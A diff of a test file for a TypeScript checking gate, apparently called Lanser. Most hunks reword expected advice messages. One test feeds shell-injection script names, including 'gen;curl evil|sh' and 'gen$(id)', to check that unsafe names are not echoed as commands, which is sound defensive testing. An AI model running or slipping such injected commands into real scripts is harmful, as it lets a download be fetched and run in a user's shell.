@@ -76,7 +76,7 @@ test("a change elsewhere is judged, and the root that was not needed is named", 
       "rates same program",
       "site same program",
       "new other/two.ts:3 2554",
-      "TypeScript in site not checked, because the change cannot affect it: site/tsconfig.json:1 names site/.svelte-kit/tsconfig.json, which could not be read: there is no such file. \`npx --no-install svelte-kit sync\` in site writes it: run that before the gate, and name site/.svelte-kit in \`dependencies\`",
+      "TypeScript did not check site, because the change does not affect it: site/tsconfig.json:1 names site/.svelte-kit/tsconfig.json, which could not be read: there is no such file. Run \`npx --no-install svelte-kit sync\` in site before the gate, and name site/.svelte-kit in \`dependencies\`",
     ]
   `);
 });
@@ -92,7 +92,7 @@ test("two roots that were not needed are one limit", async () => {
   const report = await judged({ ...workspace, ...docs }, { "other/three.ts": "export const three = 3;\n" });
   const unread = report.limits.filter(({ code }) => code === "unread-root");
   expect(unread.map(({ count }) => count)).toEqual([2]);
-  expect(unread[0]?.message).toMatch(/^TypeScript in docs not checked,.*\. The same is true for site$/u);
+  expect(unread[0]?.message).toMatch(/^TypeScript did not check docs,.*\. The same is true for site$/u);
 });
 
 test.each([
@@ -122,7 +122,7 @@ test("a change of what the root imports by the name of a package needs it, and t
   });
   expect(account(report)).toMatchInlineSnapshot(`
     [
-      "inconclusive: typescript in site on base and head: site/tsconfig.json:1 names site/.svelte-kit/tsconfig.json, which could not be read: there is no such file. \`npx --no-install svelte-kit sync\` in site writes it: run that before the gate, and name site/.svelte-kit in \`dependencies\`",
+      "inconclusive: typescript in site on base and head: site/tsconfig.json:1 names site/.svelte-kit/tsconfig.json, which could not be read: there is no such file. Run \`npx --no-install svelte-kit sync\` in site before the gate, and name site/.svelte-kit in \`dependencies\`",
       "rates 1",
       "site server-configuration",
       "other same program",
@@ -134,7 +134,7 @@ testByNight("a new file that an alias of the root may lead to needs it", async (
   const report = await judged(workspace, { "other/lib/name.ts": "export const name = 1;\n" });
   expect(account(report)).toMatchInlineSnapshot(`
     [
-      "inconclusive: typescript in site on base and head: site/tsconfig.json:1 names site/.svelte-kit/tsconfig.json, which could not be read: there is no such file. \`npx --no-install svelte-kit sync\` in site writes it: run that before the gate, and name site/.svelte-kit in \`dependencies\`",
+      "inconclusive: typescript in site on base and head: site/tsconfig.json:1 names site/.svelte-kit/tsconfig.json, which could not be read: there is no such file. Run \`npx --no-install svelte-kit sync\` in site before the gate, and name site/.svelte-kit in \`dependencies\`",
       "other 1",
       "site server-configuration",
       "rates same program",
@@ -241,9 +241,9 @@ test("in a repository of one root a change of prose and of another language need
   const report = await judged(alone, { "README.md": "# Two\n", "tool.py": "two = 2\n" });
   expect(account(report)).toMatchInlineSnapshot(`
     [
-      "pass: 1 root skipped in the second pass: nothing they use differs",
+      "pass: 1 root skipped, because the change does not affect them",
       ". same program",
-      "TypeScript not checked, because the change cannot affect it: tsconfig.json:1 names generated/tsconfig.json, which could not be read: there is no such file. \`npm run codegen\` in the top folder writes it: run that before the gate, and name generated in \`dependencies\`",
+      "TypeScript did not check the top folder, because the change does not affect it: tsconfig.json:1 names generated/tsconfig.json, which could not be read: there is no such file. Run \`npm run codegen\` in the top folder before the gate, and name generated in \`dependencies\`",
     ]
   `);
 });
@@ -252,7 +252,7 @@ test("the message names the project's own script that writes the folder", async 
   const report = await judged(alone, { "one.ts": "export const one = 2;\n" });
   expect(account(report)).toMatchInlineSnapshot(`
     [
-      "inconclusive: typescript on base and head: tsconfig.json:1 names generated/tsconfig.json, which could not be read: there is no such file. \`npm run codegen\` in the top folder writes it: run that before the gate, and name generated in \`dependencies\`",
+      "inconclusive: typescript on base and head: tsconfig.json:1 names generated/tsconfig.json, which could not be read: there is no such file. Run \`npm run codegen\` in the top folder before the gate, and name generated in \`dependencies\`",
       ". server-configuration",
     ]
   `);
@@ -266,7 +266,7 @@ test("a script whose name says more to a shell than a name is not shown", () => 
   };
   for (const name of ["gen;curl evil|sh", "gen$(id)", "gen `id`", "--script-shell=x"])
     expect(adviceOf(name)).toMatch(/^\. If a command writes it, run the command/u);
-  expect(adviceOf("gen;id", "gen:types-1.x")).toMatch(/^\. `npm run gen:types-1\.x` in/u);
+  expect(adviceOf("gen;id", "gen:types-1.x")).toMatch(/^\. Run `npm run gen:types-1\.x` in/u);
 });
 
 test("of configurations that extend an edited one their number is said, and the edited one is named", async () => {
@@ -286,7 +286,7 @@ test("of configurations that extend an edited one their number is said, and the 
   expect(report.policyChanges.map(({ files, message }) => [files, message])).toEqual([
     [
       ["tsconfig.base.json"],
-      "head changes the server's own configuration; head ran with base's; 2 other files inherit it",
+      "head changes the server's own configuration; Lanser checked head with base's; 2 other files inherit it",
     ],
   ]);
 });
